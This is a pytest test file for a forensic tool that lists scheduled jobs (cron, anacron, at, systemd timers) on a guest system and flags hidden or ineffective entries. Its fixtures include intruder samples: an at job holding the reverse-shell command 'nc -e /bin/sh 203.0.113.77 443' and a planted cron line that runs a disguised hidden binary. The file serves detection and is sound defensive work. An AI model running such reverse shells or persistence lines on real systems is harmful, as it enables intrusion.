"""What runs at set times, as real distributions write it and as intruders do."""

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guestshell.guest.facts.jobs.cron import read_jobs
from guestshell.guest.facts.jobs.crontab import parse_anacrontab, parse_crontab
from guestshell.guest.facts.jobs.job import Job
from tests.guest.facts.host_tree import HostTree, make_tree

DEBIAN_CRONTAB = """# /etc/crontab: system-wide crontab
SHELL=/bin/sh
# You can also override PATH, but by default, newer versions inherit it
#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
"""

AT_JOB = """#!/bin/sh
# atrun uid=1000 gid=1000
# mail alice 0
umask 22
LANG=C.UTF-8; export LANG
HOME=/home/alice; export HOME
cd /home/alice || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
echo one
/bin/two --x

"""

RED_HAT_AT_JOB = """#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
cd /root || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER1a2b3c4d'
nc -e /bin/sh 203.0.113.77 443

marcinDELIMITER1a2b3c4d
"""

PASSWD = "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"


def jobs(tree: HostTree) -> list[Job]:
    return list(read_jobs(tree))


def debian(tmp_path: Path, files: dict[str, str]) -> HostTree:
    base = {"/etc/debian_version": "12.11\n", "/usr/sbin/cron": "", "/etc/passwd": PASSWD}
    tree = make_tree(tmp_path, base | files)
    for path, _, names in os.walk(tmp_path / "etc"):
        for name in names:
            os.chmod(os.path.join(path, name), 0o644)  # noqa: PTH101, PTH118
    return tree


def test_the_system_table_of_debian(tmp_path: Path) -> None:
    tree = debian(tmp_path, {"/etc/crontab": DEBIAN_CRONTAB})
    first, second = jobs(tree)
    assert (first.schedule, first.user, first.line) == ("17 * * * *", "root", 6)
    assert first.command == "cd / && run-parts --report /etc/cron.hourly"
    assert first.environment == ("SHELL=/bin/sh",)
    assert first.file == "/etc/crontab" and first.enabled and first.note == ""
    assert first.mtime == tree.entry("/etc/crontab").mtime
    assert second.command.endswith("; }")
    assert tree.warnings == []


def test_a_hidden_table_is_shown_with_why_cron_does_not_take_it(tmp_path: Path) -> None:
    planted = "*/5 * * * * root /usr/lib/.cache/kworker -q >/dev/null 2>&1\n"
    tree = debian(tmp_path, {"/etc/cron.d/.sysupdate": planted, "/etc/cron.d/php": planted})
    hidden, plain = jobs(tree)
    assert (hidden.file, hidden.enabled) == ("/etc/cron.d/.sysupdate", False)
    assert hidden.note == "cron ignores names with other than A-Z a-z 0-9 _ -"
    assert plain.enabled


@pytest.mark.parametrize(
    ("name", "enabled"), [("0hourly", True), ("a.b", True), (".x", False), ("x.rpmsave", False)]
)
def test_cronie_takes_names_with_dots(tmp_path: Path, name: str, enabled: bool) -> None:
    files = {"/usr/sbin/crond": "elf", f"/etc/cron.d/{name}": "01 * * * * root x\n"}
    tree = make_tree(tmp_path, files)
    (tmp_path / "etc/cron.d" / name).chmod(0o644)
    [job] = jobs(tree)
    assert job.enabled is enabled


def test_a_table_that_others_may_write_is_not_taken(tmp_path: Path) -> None:
    tree = debian(tmp_path, {"/etc/cron.d/open": "* * * * * root x\n"})
    (tmp_path / "etc/cron.d/open").chmod(0o666)
    [job] = jobs(tree)
    assert (job.enabled, job.note) == (False, "others may write it")


def test_tables_of_users(tmp_path: Path) -> None:
    table = 'MAILTO=""\n@reboot $HOME/.x\n0 9 * * mon-fri  echo 50%done\n'
    spool = "/var/spool/cron/crontabs"
    tree = debian(tmp_path, {f"{spool}/alice": table, f"{spool}/gone": "* * * * * x\n"})
    (tmp_path / "var/spool/cron/crontabs/alice").chmod(0o600)
    reboot, weekday, gone = jobs(tree)
    assert (reboot.schedule, reboot.user, reboot.command) == ("@reboot", "alice", "$HOME/.x")
    assert weekday.command == "echo 50%done" and weekday.environment == ("MAILTO=",)
    assert (gone.enabled, gone.note) == (False, "no such user")


def test_tables_of_alpine_come_once(tmp_path: Path) -> None:
    tree = make_tree(
        tmp_path,
        {
            "/etc/alpine-release": "3.20.0\n",
            "/etc/passwd": PASSWD,
            "/bin/busybox": "elf",
            "/usr/sbin/crond": "-> /bin/busybox",
            "/etc/crontabs/root": "*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n",
            "/var/spool/cron/crontabs": "-> /etc/crontabs",
            "/etc/periodic/daily/logrotate": "#!/bin/sh\n",
            "/etc/crontab": "* * * * * root x\n",
        },
    )
    ignored, table, script = jobs(tree)
    assert (ignored.enabled, ignored.note) == (False, "BusyBox does not read it")
    assert (table.user, table.command) == ("root", "run-parts /etc/periodic/15min")
    assert (script.schedule, script.enabled, script.note) == ("daily", False, "is not executable")


def test_times_that_cron_does_not_understand(tmp_path: Path) -> None:
    table = "61 * * * * root x\n* * 1-31/2 JAN,feb 7 root ok\n@soon root x\nno entry\n* * * * * u\n"
    tree = debian(tmp_path, {"/etc/crontab": table})
    found = jobs(tree)
    assert [(job.line, job.enabled) for job in found] == [(1, False), (2, True), (3, False)]
    assert found[0].note == "cron does not understand its time"
    assert tree.warnings == ["/etc/crontab: lines 4, 5: has not five times, a user and a command"]


def test_a_user_that_is_not_there_runs_nothing(tmp_path: Path) -> None:
    tree = debian(tmp_path, {"/etc/crontab": "* * * * * ghost x\n* * * * * alice y\n"})
    assert [(job.enabled, job.note) for job in jobs(tree)] == [(False, "no such user"), (True, "")]


def test_scripts_of_run_parts(tmp_path: Path) -> None:
    tree = debian(
        tmp_path,
        {
            "/etc/cron.daily/apt-compat": "#!/bin/sh\n",
            "/etc/cron.daily/backup.sh": "#!/bin/sh\n",
            "/etc/cron.hourly/.placeholder": "",
            "/etc/cron.weekly/man-db": "#!/bin/sh\n",
        },
    )
    for name in ("apt-compat", "backup.sh"):
        (tmp_path / "etc/cron.daily" / name).chmod(0o755)
    found = {str(job.name): job for job in jobs(tree)}
    assert found["apt-compat"].enabled and found["apt-compat"].schedule == "daily"
    assert found["backup.sh"].note.startswith("run-parts ignores names")
    assert found["man-db"].note == "is not executable"
    assert set(found) == {"apt-compat", "backup.sh", "man-db"}


def test_anacron(tmp_path: Path) -> None:
    table = (
        "SHELL=/bin/sh\nRANDOM_DELAY=45\n1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily\n"
        "@monthly 45\tcron.monthly\trun-parts /etc/cron.monthly\nrubbish\n"
    )
    tree = debian(tmp_path, {"/etc/anacrontab": table})
    daily, monthly = jobs(tree)
    assert (daily.kind, daily.schedule, daily.name) == ("anacron", "1 5", "cron.daily")
    assert (daily.user, daily.command) == ("root", "nice run-parts /etc/cron.daily")
    assert monthly.schedule == "@monthly 45"
    assert tree.warnings == ["/etc/anacrontab: line 5: has not days, delay, job and command"]


def test_at_jobs(tmp_path: Path) -> None:
    spool = "/var/spool/cron/atjobs"
    tree = debian(
        tmp_path,
        {
            f"{spool}/.SEQ": "1\n",
            f"{spool}/a0000101c946b2": AT_JOB,
            f"{spool}/b0000affffffff": RED_HAT_AT_JOB,
            f"{spool}/notes": "x",
        },
    )
    if os.getuid() == 0:
        os.chown(tmp_path / spool[1:] / "a0000101c946b2", 1000, 1000)
    (tmp_path / spool[1:] / "a0000101c946b2").chmod(0o700)
    mine, late = jobs(tree)
    assert (mine.kind, mine.name, mine.user) == ("at", "1", "alice")
    assert mine.schedule == "2026-12-24 03:30 UTC"  # what at 3.2.5 wrote for that minute
    assert mine.due == 1_798_083_000 * 10**9
    assert mine.command == "echo one ; /bin/two --x"
    assert mine.environment == ("LANG=C.UTF-8", "HOME=/home/alice")
    assert late.command == "nc -e /bin/sh 203.0.113.77 443"
    assert late.schedule == "minute 4294967295"  # in the year 10136
    assert not late.enabled and "is not executable" in late.note
    assert tree.warnings == [f"{spool}/notes: is no at job by its name"]


def test_timers(tmp_path: Path) -> None:
    lib, etc = "/usr/lib/systemd/system", "/etc/systemd/system"
    tree = make_tree(
        tmp_path,
        {
            f"{lib}/fstrim.timer": "[Timer]\nOnCalendar=weekly\n[Install]\nWantedBy=t\n",
            f"{lib}/fstrim.service": "[Service]\nExecStart=/sbin/fstrim -A\nUser=nobody\n",
            f"{lib}/clean.timer": "[Timer]\nOnBootSec=15min\nOnUnitActiveSec=1d\nUnit=x.service\n",
            f"{lib}/timers.target.wants/clean.timer": "-> ../clean.timer",
            f"{etc}/fstrim.timer.d/often.conf": "[Timer]\nOnCalendar=\nOnCalendar=minutely\n",
        },
    )
    clean, fstrim = jobs(tree)
    assert (clean.schedule, clean.enabled) == ("OnBootSec=15min; OnUnitActiveSec=1d", False)
    assert (clean.command, clean.note) == ("x.service", "x.service is not there")
    assert (fstrim.schedule, fstrim.command, fstrim.user, fstrim.note) == (
        "OnCalendar=minutely", "/sbin/fstrim -A", "nobody", "disabled",
    )  # fmt: skip


def test_tables_without_a_cron_are_shown_and_warned_of(tmp_path: Path) -> None:
    tree = make_tree(tmp_path, {"/etc/crontab": "* * * * * root x\n"})
    assert [job.command for job in jobs(tree)] == ["x"]
    assert tree.warnings == ["/usr/sbin: has no cron that would run what its tables say"]


def test_nothing_gives_nothing(tmp_path: Path) -> None:
    tree = make_tree(tmp_path, {"/etc/hostname": "x"})
    assert jobs(tree) == [] and tree.warnings == []


@given(st.binary(max_size=2000), st.booleans())
def test_any_bytes_are_a_table(data: bytes, system: bool) -> None:
    for entries, bad in (parse_crontab(data, system=system), parse_anacrontab(data)):
        lines = [entry.number for entry in entries] + bad
        assert len(set(lines)) == len(lines)
        assert all(1 <= line <= data.count(b"\n") + 1 for line in lines)


@given(st.text(alphabet="0123456789*/-~,@:jfm \t=\"'", max_size=60))
def test_times_in_any_order(line: str) -> None:
    entries, _ = parse_crontab(f"{line} root x".encode(), system=True)
    assert len(entries) <= 1
